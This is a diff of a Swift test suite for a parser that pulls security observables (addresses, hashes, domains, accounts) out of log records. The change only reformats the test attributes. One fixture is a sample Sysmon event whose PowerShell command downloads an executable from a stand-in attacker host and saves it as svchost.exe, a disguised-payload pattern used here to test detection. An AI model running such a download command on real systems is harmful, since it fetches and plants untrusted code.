@@ -25,7 +25,9 @@ private func observables(_ line: String) -> Set<String> {
 
 @Suite("Observables")
 struct ObservableTests {
-    @Test("A Windows record names its machine, its accounts, its addresses, its hashes and the domains of its commands")
+    @Test(
+        "A Windows record names its machine, its accounts, its addresses, its hashes and the domains of its commands"
+    )
     func windows() {
         let found = observables(
             #"{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"PC-7.chu.example","User":"CHU\\JDupont","CommandLine":"powershell -c iwr https://cdn.Evil.example/a.exe -o C:\\Temp\\svchost.exe","Hashes":"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E","DestinationIp":"203.0.113.9","SourceIp":"::1"}"#
@@ -52,40 +54,54 @@ struct ObservableTests {
         #expect(found.contains { $0.hasPrefix("address:2001:db8::7") }, "\(found)")
     }
 
-    @Test("What only looks like an observable is none", arguments: [
-        "version 10.0.19041.1", "at 12:34:56.789", "file kernel32.dll and readme.txt", "0.0.0.0 and 127.0.0.1 and ::1",
-        "00:11:22:33:44:55", "{5F1B2C3D-0000-0000-0000-000000000000}", "1.2.3", "300.1.1.1", "01.02.03.04", "a..b", "x@y",
-        "deadbeef", "-.example", "1:2:3:4:5:6:7:8:9",
-    ])
+    @Test(
+        "What only looks like an observable is none",
+        arguments: [
+            "version 10.0.19041.1", "at 12:34:56.789", "file kernel32.dll and readme.txt",
+            "0.0.0.0 and 127.0.0.1 and ::1",
+            "00:11:22:33:44:55", "{5F1B2C3D-0000-0000-0000-000000000000}", "1.2.3", "300.1.1.1",
+            "01.02.03.04", "a..b", "x@y",
+            "deadbeef", "-.example", "1:2:3:4:5:6:7:8:9",
+        ])
     func nothing(_ text: String) {
         #expect(observables("<34>1 2026-02-11T02:04:05Z - app - - - " + text).isEmpty)
     }
 
-    @Test("An address has one fingerprint, however it is written", arguments: [
-        ("2001:0DB8:0:0:0:0:0:1", "2001:db8::1"), ("::ffff:192.0.2.1", "192.0.2.1"), ("::FFFF:C000:0201", "192.0.2.1"),
-        ("64:ff9b::192.0.2.33", "64:ff9b::c000:221"), ("1:0:0:2:0:0:0:3", "1:0:0:2::3"), ("1:2:3:4:5:6:7::", "1:2:3:4:5:6:7:0"),
-        ("fe80::", "fe80::"),
-    ])
+    @Test(
+        "An address has one fingerprint, however it is written",
+        arguments: [
+            ("2001:0DB8:0:0:0:0:0:1", "2001:db8::1"), ("::ffff:192.0.2.1", "192.0.2.1"),
+            ("::FFFF:C000:0201", "192.0.2.1"),
+            ("64:ff9b::192.0.2.33", "64:ff9b::c000:221"), ("1:0:0:2:0:0:0:3", "1:0:0:2::3"),
+            ("1:2:3:4:5:6:7::", "1:2:3:4:5:6:7:0"),
+            ("fe80::", "fe80::"),
+        ])
     func addresses(written: String, normal: String) throws {
         let one = try #require(Observable(.address, written))
         #expect(one.text == normal)
         #expect(one == Observable(.address, normal))
     }
 
-    @Test("No text that is not an address is read as one", arguments: [
-        "1.2.3", "1.2.3.4.5", "1.2.3.256", "1.2.3.04", "1:2:3", ":1::", "1::2::3", "1:2:3:4:5:6:7:8:9", "12345::", "::1:", "g::",
-        "1.2.3.4::", "1:2:3:4:5:6:7:1.2.3.4", "", ":", "1..2.3",
-    ])
+    @Test(
+        "No text that is not an address is read as one",
+        arguments: [
+            "1.2.3", "1.2.3.4.5", "1.2.3.256", "1.2.3.04", "1:2:3", ":1::", "1::2::3", "1:2:3:4:5:6:7:8:9",
+            "12345::", "::1:", "g::",
+            "1.2.3.4::", "1:2:3:4:5:6:7:1.2.3.4", "", ":", "1..2.3",
+        ])
     func noAddress(_ text: String) { #expect(Observable(.address, text) == nil) }
 
-    @Test("What a person pastes is read as what it may be", arguments: [
-        ("hxxps://cdn[.]evil[.]example/a?b", ["domain:cdn.evil.example", "host:cdn.evil.example"]),
-        (" 198[.]51.100.7 ", ["address:198.51.100.7"]), ("http://[2001:db8::1]:80/x", ["address:2001:db8::1"]),
-        ("D41D8CD98F00B204E9800998ECF8427E", ["hash:d41d8cd98f00b204e9800998ecf8427e"]),
-        ("CHU\\Sauvegarde", ["account:sauvegarde"]), ("a@chu.example", ["account:a@chu.example"]),
-        ("srv-pacs", ["host:srv-pacs", "account:srv-pacs"]), ("account:srv-pacs", ["account:srv-pacs"]),
-        ("setup.exe", ["domain:setup.exe", "host:setup.exe"]), ("", []), ("a b", ["account:a b"]),
-    ])
+    @Test(
+        "What a person pastes is read as what it may be",
+        arguments: [
+            ("hxxps://cdn[.]evil[.]example/a?b", ["domain:cdn.evil.example", "host:cdn.evil.example"]),
+            (" 198[.]51.100.7 ", ["address:198.51.100.7"]),
+            ("http://[2001:db8::1]:80/x", ["address:2001:db8::1"]),
+            ("D41D8CD98F00B204E9800998ECF8427E", ["hash:d41d8cd98f00b204e9800998ecf8427e"]),
+            ("CHU\\Sauvegarde", ["account:sauvegarde"]), ("a@chu.example", ["account:a@chu.example"]),
+            ("srv-pacs", ["host:srv-pacs", "account:srv-pacs"]), ("account:srv-pacs", ["account:srv-pacs"]),
+            ("setup.exe", ["domain:setup.exe", "host:setup.exe"]), ("", []), ("a b", ["account:a b"]),
+        ])
     func pasted(text: String, read: [String]) {
         #expect(Observable.reading(text).map(\.description) == read)
     }
@@ -105,7 +121,8 @@ struct ObservableTests {
         for _ in 0..<20_000 {
             var event = Event(names: names)
             let text = String(
-                decoding: (0..<Int.random(in: 0...80, using: &numbers)).map { _ in numbers.pick(alphabet) }, as: UTF8.self)
+                decoding: (0..<Int.random(in: 0...80, using: &numbers)).map { _ in numbers.pick(alphabet) },
+                as: UTF8.self)
             event.append(numbers.pick(["message", "User", "host", "url", "Computer"]), text)
             var first: [UInt64] = []
             var second: [UInt64] = []
